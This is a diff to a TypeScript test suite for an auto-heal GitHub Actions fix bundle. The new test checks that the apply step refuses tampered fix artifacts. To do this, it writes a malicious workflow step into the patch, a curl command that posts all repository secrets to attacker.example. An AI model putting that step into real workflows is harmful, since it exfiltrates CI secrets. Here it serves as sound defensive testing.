@@ -3,7 +3,7 @@
  * files the issue, then generate-fix delivers the fix, exactly as the auto-heal workflow chains them.
  * `node scripts/lib/build.js generate-fix` makes the bundle.
  */
-import { rm } from 'node:fs/promises';
+import { readFile, rm, writeFile } from 'node:fs/promises';
 import path from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { webhookExample, withFields } from '@autoheal/testkit/events/webhook-examples';
@@ -89,7 +89,9 @@ async function generateFix(
     repository: REPO,
     env: FAST,
     node: 'node24',
+    keepTemp: true,
   });
+  temps.push(result.tempDir);
   expect(result.problems).toEqual([]);
   return { result, calls: s.requests.slice(from).filter((r) => !r.path.startsWith('/_blobs/')) };
 }
@@ -286,6 +288,58 @@ describe('generate-fix bundle', () => {
     expect(comments[0]!.body).toContain('+    timeout-minutes: 45');
     expect([...sim.state.requireRepo(REPO).refs.keys()].filter((r) => r.includes('autoheal/'))).toEqual([]);
   }, 30_000);
+
+  it('apply computes the fix again from GitHub: a tampered artifact or fix kind is refused with no write', async () => {
+    sim = await startGitHubSimulator({ seed: baseSeed().build() });
+    const analyzed = await analyze(sim, TIMEOUT.runId);
+    const issue = analyzed.outputs['issue-number']!;
+    const computed = await generateFix(sim, {
+      mode: 'compute',
+      'analysis-file': analyzed.outputs['analysis-file']!,
+      'issue-number': issue,
+    });
+    expect(computed.result.outputs).toMatchObject({ result: 'computed', 'fix-kind': 'patch' });
+    expect(computed.calls.filter((r) => r.method !== 'GET')).toEqual([]);
+    const fixFile = computed.result.outputs['fix-file']!;
+    const original = await readFile(fixFile, 'utf8');
+    const apply = (kind: string) =>
+      generateFix(sim!, {
+        mode: 'apply',
+        'fix-file': fixFile,
+        'expected-fix-kind': kind,
+        'issue-number': issue,
+        token: MAINTAINER_TOKEN,
+      });
+
+    // Code that ran before the upload rewrites the patch to send the secrets out.
+    const doc = JSON.parse(original) as { fix: { changes: { after: string }[] } };
+    doc.fix.changes[0]!.after = doc.fix.changes[0]!.after.replace(
+      '      - run: npm test\n',
+      '      - run: npm test\n      - run: curl -d "$S" https://attacker.example\n        env:\n          S: ${{ toJSON(secrets) }}\n',
+    );
+    await writeFile(fixFile, JSON.stringify(doc));
+    const tampered = await apply('patch');
+    expect(tampered.result.exitCode, tampered.result.stdout).toBe(0);
+    expect(tampered.result.outputs.result).toBe('skipped');
+    expect(tampered.result.annotations[0]!.message).toMatch(
+      /^Refused: the fix file's patch \(\.github\/workflows\/ci\.yml\) is not the fix computed again from GitHub/,
+    );
+    expect(tampered.calls.filter((r) => r.method !== 'GET')).toEqual([]);
+
+    // The fix job's fix-kind output says one kind; apply computes another: refused.
+    await writeFile(fixFile, original);
+    const otherKind = await apply('none');
+    expect(otherKind.result.annotations[0]!.message).toMatch(
+      /^Refused: the compute job reported a fix of kind "none" \(its fix-kind output\), but computed again from GitHub it is a patch/,
+    );
+    expect(otherKind.calls.filter((r) => r.method !== 'GET')).toEqual([]);
+
+    const applied = await apply('patch');
+    expect(applied.result.outputs).toMatchObject({ result: 'created', 'fix-kind': 'patch' });
+    expect(changedPaths(sim, 'main', `autoheal/${analyzed.outputs.fingerprint}`)).toEqual([
+      '.github/workflows/ci.yml',
+    ]);
+  }, 60_000);
 
   it('a bad input is one ::error:: naming it and what it accepts', async () => {
     sim = await startGitHubSimulator({ seed: baseSeed().build() });
